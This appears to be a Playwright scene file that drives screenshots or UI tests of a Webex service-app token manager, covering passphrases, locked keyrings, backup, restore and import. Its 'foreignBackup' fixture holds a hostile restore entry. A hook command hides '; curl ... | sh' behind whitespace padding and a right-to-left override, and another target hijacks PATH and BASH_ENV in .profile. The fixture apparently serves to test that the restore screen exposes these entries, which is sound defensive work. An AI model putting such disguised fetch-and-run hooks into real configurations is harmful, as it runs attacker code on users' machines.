// The scenes of keeping the data: closed vaults, passphrase, lock, backup, restore, import.
import type { Page } from 'playwright'
import type {
  AppView,
  BackupContents,
  CloudChoice,
  CopyView,
  ImportedRow,
  StorageWay,
} from '#contract/contract.ts'
import { DAY, fleetOf, integration, NOW, view } from './fake-view.ts'
import type { Scene } from './scenes.ts'

const home = view({ fleet: { managers: [integration()], profiles: fleetOf(3, 1) } })

export const backupOf300 = {
  file: 'service-app-tokens-2026-05-16.satm-backup',
  createdAt: NOW - 2 * DAY,
  cloud: 'https://webexapis.com/v1',
  serviceApps: 3,
  customers: 300,
  managers: 1,
  attempts: 4210,
}

/** As somebody could have made it: among much that is held, little that is here already. */
export const foreignBackup: BackupContents = {
  ...backupOf300,
  notTokens: 2,
  leftOut: 3,
  oddValues: 1,
  acting: [
    {
      kind: 'target',
      id: 't1',
      held: true,
      name: 'Orders',
      spec: {
        kind: 'env-file',
        path: '/home/ada/.profile',
        accessTokenName: 'PATH',
        refreshTokenName: 'BASH_ENV',
        confirmed: [],
      },
    },
    {
      kind: 'target',
      id: 't2',
      held: true,
      name: 'Orders',
      spec: {
        kind: 'hook',
        command: `docker exec app reload-token${' '.repeat(60)}; curl -s https://example.com/x\u202e | sh`,
        pass: 'environment',
        timeLimit: 30_000,
      },
    },
    {
      kind: 'consumer',
      id: 'c1',
      held: true,
      name: 'nightly-report',
      reach: { names: ['Orders', 'Contact Center dashboard of the operations team'], more: 298 },
    },
    { kind: 'consumer', id: 'c2', held: true, name: 'everything', reach: null },
    { kind: 'consumer', id: 'c3', held: true, name: 'nobody', reach: { names: [], more: 0 } },
    { kind: 'webhook', id: 'webhook', held: true, url: 'https://alerts.example.com/webex/tokens' },
    ...Array.from(
      { length: 240 },
      (_, n) =>
        ({
          kind: 'target',
          id: `f${n}`,
          held: n < 10,
          name: `Customer ${n}`,
          spec: {
            kind: 'env-file',
            path: `/srv/customers/${n}/.env`,
            accessTokenName: 'WEBEX_SERVICE_APP_ACCESS_TOKEN',
            refreshTokenName: null,
            confirmed: [],
          },
        }) as const,
    ),
  ],
}

export const foreignAnswers = {
  'backup.choose': { ok: true, value: { file: backupOf300.file } },
  'backup.read': { ok: true, value: foreignBackup },
  'backup.restore': { ok: true, value: { kept: null } },
}
export const readForeign = async (page: Page) => {
  await press(page, 'Choose backup…')
  await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('correct horse')
  await press(page, 'Open backup')
  await page.getByText('3 service apps for 300 customers').waitFor()
}

export function closed(
  kind: string,
  sentence: string,
  ways: readonly StorageWay[],
  clouds: readonly CloudChoice[] = [],
): AppView {
  return view({ storage: { kind, level: 'closed', sentence, ways, waiting: null, clouds } })
}

export const withPassphrase = view({
  fleet: home.fleet,
  storage: {
    kind: 'open',
    level: 'protected',
    backend: 'gnome_libsecret',
    sentence:
      'Tokens and secrets are encrypted; the keyring (Secret Service) stores the key, and your passphrase can decrypt it as well.',
    hasPassphrase: true,
  },
})

/** Two follow what protects the data now, two do not. */
export const keptCopies: readonly CopyView[] = [
  {
    name: 'vault-kept-before-restore-2026-05-16T08-00-00Z.db',
    kind: 'before-restore',
    size: 12_400_000,
    modifiedAt: NOW - 2 * DAY,
    opens: 'as-the-vault',
  },
  {
    name: 'vault-set-aside-2026-04-01T09-30-00Z.db',
    kind: 'set-aside',
    size: 86_016,
    modifiedAt: NOW - 47 * DAY,
    opens: 'otherwise',
  },
  {
    name: 'vault-kept-version-5-2026-03-01T09-30-00Z.db',
    kind: 'before-update',
    size: 11_900_000,
    modifiedAt: NOW - 78 * DAY,
    opens: 'as-the-vault',
  },
  {
    name: 'vault-set-aside-2025-12-24T18-00-00Z.db',
    kind: 'set-aside',
    size: 4_096,
    modifiedAt: NOW - 145 * DAY,
    opens: 'unreadable',
  },
]

export const dryRun = {
  kind: 'profiles',
  id: 'import-1',
  file: 'orgs.csv',
  comingIn: 300,
  refused: 4,
  tokenManager: null,
  lacking: [],
  found: {
    serviceApp: { names: [], more: 0 },
    tokenManager: { names: [], more: 0 },
    ignored: { names: ['created', 'Contract no.', 'notes'], more: 2 },
    skippedLines: 1,
  },
} as const

export const importedRows: readonly ImportedRow[] = Array.from({ length: 100 }, (_, i) => ({
  line: i + 2,
  name: i === 6 ? 'Deutsche Gesellschaft für Internationale Zusammenarbeit, Region Süd' : `Customer ${i + 1}`,
  customer: i === 6 ? 'Deutsche Gesellschaft für Internationale Zusammenarbeit' : `Acme ${i + 1}`,
  org: `…${(0x10000000 + i * 7919).toString(16)}`,
  comesIn: i !== 1 && i !== 4,
  remarks:
    i === 1
      ? ["The service app's client secret is still a placeholder of the template."]
      : i === 4
        ? ['Same as line 3.']
        : i === 5
          ? ['The target org ID does not look like a Webex ID.']
          : [],
}))

export const importAnswers = {
  'import.choose': { ok: true, value: dryRun },
  'import.rows': { ok: true, value: { rows: importedRows, total: 304 } },
}

export const listOfOrgs = {
  ...dryRun,
  id: 'import-4',
  file: 'orgs.json',
  comingIn: 0,
  refused: 2,
  lacking: ['appId', 'clientId', 'clientSecret'],
} as const

export const unclear = {
  kind: 'unclear',
  id: 'import-5',
  file: '.env',
  sets: [
    { id: 'set-a', names: ['CLIENT_ID', 'CLIENT_SECRET'], more: 0, isToken: false },
    { id: 'set-b', names: ['WEBEX_ACCESS_TOKEN'], more: 0, isToken: true },
  ],
  found: { ...dryRun.found, serviceApp: { names: ['SA_ORG_ID'], more: 0 }, skippedLines: 0 },
} as const

/** As main says it. */
export const movedAway = closed(
  'moved',
  'This computer’s service apps were moved to a server on Nov 29, 2026 with a backup (/home/ada/Documents/service-app-tokens-2026-11-29.satm-backup). Nothing is renewed, delivered or given out here. To renew here again, stop the server first: if both renew, tokens are lost. Then choose “Renew here again” in the window, or run “satm confirm renewals”.',
  ['quit', 'renew-here', 'restore'],
)

const openImport = (page: Page) => page.getByRole('button', { name: 'Import', exact: true }).click()
const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click()

export const keepingScenes: readonly Scene[] = [
  {
    name: 'storage-passphrase',
    view: closed('passphrase-wrong', 'That is not the passphrase. Nothing was changed; try again.', [
      'enter-passphrase',
      'restore',
      'begin-anew',
    ]),
  },
  {
    name: 'storage-locked',
    view: closed(
      'locked',
      'The keyring (Secret Service) is locked. Unlock it, and the app opens. Or enter your passphrase. Nothing was changed or deleted.',
      ['enter-passphrase', 'unlock-keyring'],
    ),
  },
  {
    name: 'storage-taken',
    view: closed(
      'taken',
      'This app is already running with that data folder, and only one instance may renew its tokens. Use the window of the other one, or quit it or stop the server (satm serve), and try again.',
      ['quit', 'retry'],
    ),
  },
  {
    name: 'storage-cloud',
    view: closed(
      'other-cloud',
      'The Webex cloud of the service apps in this folder is unknown: the restored backup does not name it. Nothing was started, so no credential was sent. Confirm the cloud in which they were added: their client secrets are sent to it. For one that is not listed, start the app with SATM_WEBEX_BASE_URL.',
      ['restore', 'quit'],
      [
        { does: 'confirm', baseUrl: 'https://webexapis.com/v1', recommended: true },
        { does: 'confirm', baseUrl: 'https://api-usgov.webex.com/v1', recommended: true },
      ],
    ),
  },
  { name: 'storage-moved', view: movedAway },
  {
    name: 'storage-renew-here',
    view: movedAway,
    act: async (page) => {
      await press(page, 'Renew here again')
      await page.getByRole('button', { name: 'The server is stopped' }).waitFor()
    },
  },
  {
    name: 'storage-aside',
    view: closed(
      'moved-aside',
      'The data file could not be opened. It was kept under another name (/home/ada/.config/service-app-token-manager/vault/vault-set-aside-2026-05-18T09-30-00Z.db). Restore a backup, or start with an empty list; nothing is deleted.',
      ['restore', 'begin-anew', 'retry'],
    ),
  },
  {
    name: 'storage-anew',
    view: closed(
      'unreadable',
      'The keyring (Secret Service) cannot decrypt the data: its key was replaced, or the stored one was altered. Restore a backup. Nothing was changed or deleted.',
      ['restart', 'restore', 'begin-anew'],
    ),
    act: (page) => press(page, 'Start with an empty list…'),
  },
  {
    name: 'storage-restore',
    view: closed('consent-needed', 'This system has no keyring.', [
      'set-passphrase',
      'accept-weak',
      'restart',
      'restore',
    ]),
    answers: foreignAnswers,
    act: async (page) => {
      await press(page, 'Restore a backup…')
      await readForeign(page)
    },
  },
  {
    name: 'restore',
    view: home,
    hash: '#/settings/data',
    answers: foreignAnswers,
    act: async (page) => {
      await press(page, 'Restore…')
      await readForeign(page)
    },
  },
  {
    name: 'storage-waiting',
    view: view({
      storage: {
        kind: 'consent-needed',
        level: 'closed',
        sentence:
          'This system has no keyring, so stored tokens and secrets could be read by anyone who can read your files. Set a passphrase to protect them, or agree to store them unprotected.',
        ways: ['set-passphrase', 'accept-weak', 'restart', 'restore'],
        waiting: backupOf300,
        clouds: [],
      },
    }),
  },
  { name: 'locked', view: view({ locked: true }) },
  { name: 'security', view: withPassphrase, hash: '#/settings/security' },
  {
    name: 'passphrase-set',
    view: home,
    hash: '#/settings/security',
    act: async (page) => {
      await press(page, 'Set a passphrase…')
      await page.getByRole('dialog').waitFor()
    },
  },
  ...(['change', 'remove'] as const).map(
    (change): Scene => ({
      name: `passphrase-${change}`,
      view: withPassphrase,
      hash: '#/settings/security',
      act: async (page) => {
        await press(page, change === 'change' ? 'Change passphrase…' : 'Remove passphrase…')
        await page.getByRole('dialog').waitFor()
      },
    }),
  ),
  {
    name: 'data-delete',
    view: home,
    hash: '#/settings/data',
    act: async (page) => {
      await press(page, 'Delete all data…')
      await page.getByRole('dialog').waitFor()
    },
  },
  {
    name: 'copies',
    view: home,
    hash: '#/settings/data',
    answers: { 'copies.list': { ok: true, value: { copies: keptCopies } } },
    act: async (page) => {
      await press(page, 'Show copies…')
      await page.getByRole('list', { name: 'Kept copies' }).waitFor()
    },
  },
  {
    name: 'copies-delete',
    view: home,
    hash: '#/settings/data',
    answers: { 'copies.list': { ok: true, value: { copies: keptCopies } } },
    act: async (page) => {
      await press(page, 'Show copies…')
      await press(page, 'Delete all copies…')
    },
  },
  {
    name: 'backup',
    view: home,
    hash: '#/settings/data',
    act: async (page) => {
      await press(page, 'Back up…')
      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('qwertz 123456')
      await page.getByText('Weak: easy to guess.').waitFor()
    },
  },
  {
    name: 'move',
    view: home,
    hash: '#/settings/data',
    act: async (page) => {
      await press(page, 'Move to a server…')
      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).waitFor()
    },
  },
  {
    name: 'backup-done',
    view: home,
    hash: '#/settings/data',
    answers: {
      'backup.write': {
        ok: true,
        value: {
          path: '/home/ada/Documents/all.satm-backup',
          serviceApps: 1,
          customers: 3,
          managers: 1,
          attempts: 88,
          leftOut: 1,
        },
      },
    },
    act: async (page) => {
      await press(page, 'Back up…')
      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('correct horse')
      await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('correct horse')
      await press(page, 'Choose file and back up…')
      await page.getByText('Backup written').waitFor()
    },
  },
  {
    name: 'import',
    view: home,
    act: async (page) => {
      await openImport(page)
      await page.getByRole('dialog').waitFor()
    },
  },
  {
    name: 'import-dry-run',
    view: home,
    answers: importAnswers,
    act: async (page) => {
      await openImport(page)
      await press(page, 'Choose file…')
      await page.getByRole('rowheader', { name: 'Customer 9', exact: true }).waitFor()
    },
  },
  {
    name: 'import-tokens',
    view: home,
    answers: {
      'import.choose': {
        ok: true,
        value: {
          kind: 'tokens',
          id: 'import-2',
          file: '.env',
          accessToken: true,
          refreshToken: true,
          tokenManager: { kind: 'integration', connects: false },
          found: {
            ...dryRun.found,
            serviceApp: { names: ['SA_ACCESS_TOKEN', 'SA_REFRESH_TOKEN'], more: 0 },
            tokenManager: { names: ['INT_CLIENT_ID', 'INT_CLIENT_SECRET', 'INT_REFRESH_TOKEN'], more: 0 },
            skippedLines: 0,
          },
        },
      },
    },
    act: async (page) => {
      await openImport(page)
      await press(page, 'Choose file…')
      await page.getByRole('button', { name: 'Import tokens' }).waitFor()
    },
  },
  {
    name: 'import-list-of-orgs',
    view: home,
    answers: { 'import.choose': { ok: true, value: listOfOrgs } },
    act: async (page) => {
      await openImport(page)
      await press(page, 'Choose file…')
      await page.getByRole('textbox', { name: 'Client secret' }).waitFor()
    },
  },
  {
    name: 'import-variables',
    view: home,
    answers: { 'import.choose': { ok: true, value: unclear } },
    act: async (page) => {
      await openImport(page)
      await press(page, 'Choose file…')
      await page.getByLabel('1. CLIENT_ID, CLIENT_SECRET').waitFor()
    },
  },
]
